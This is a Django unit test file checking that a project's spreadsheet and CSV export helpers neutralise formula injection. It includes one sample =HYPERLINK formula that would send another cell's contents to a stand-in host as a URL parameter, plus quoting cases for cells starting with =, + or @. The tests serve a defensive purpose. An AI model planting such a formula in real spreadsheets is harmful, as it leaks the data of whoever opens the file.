import io

from django.test import SimpleTestCase
from openpyxl import Workbook, load_workbook

from moralprovince.lib.sheets import csv_text, workbook_bytes


class SheetTests(SimpleTestCase):
    def test_a_text_that_looks_like_a_formula_is_stored_as_text(self):
        book = Workbook()
        book.active["A1"] = '=HYPERLINK("http://example.invalid/?d="&A2,"x")'
        book.active["A2"] = "ข้อมูล"
        cell = load_workbook(io.BytesIO(workbook_bytes(book))).active["A1"]
        self.assertEqual(cell.data_type, "s")
        self.assertEqual(cell.value, '=HYPERLINK("http://example.invalid/?d="&A2,"x")')

    def test_a_csv_cell_that_would_start_a_formula_is_quoted(self):
        for given, written in [
            ("=1+1", "'=1+1"),
            ("+66 81", "'+66 81"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("S0012", "S0012"),
            ("โรงเรียน", "โรงเรียน"),
            (7, 7),
        ]:
            with self.subTest(given=given):
                self.assertEqual(csv_text(given), written)
